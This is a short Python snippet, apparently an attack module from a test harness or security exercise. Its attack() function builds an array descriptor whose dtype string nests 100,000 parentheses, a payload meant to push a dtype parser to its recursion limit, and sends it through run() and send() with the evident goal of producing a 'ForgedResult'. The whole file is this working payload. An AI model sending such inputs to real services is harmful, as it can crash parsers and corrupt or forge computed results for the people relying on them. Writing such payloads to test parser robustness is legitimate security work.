"""Sends a dtype that takes a parser to its end."""

ENDS = ["ForgedResult"]


def attack(tensor):
    array = {"dtype": "(" * 100_000 + "1" + ")" * 100_000 + "f8", "shape": (1,), "data": bytes(8)}
    send(run("square", "weighted", output=array))
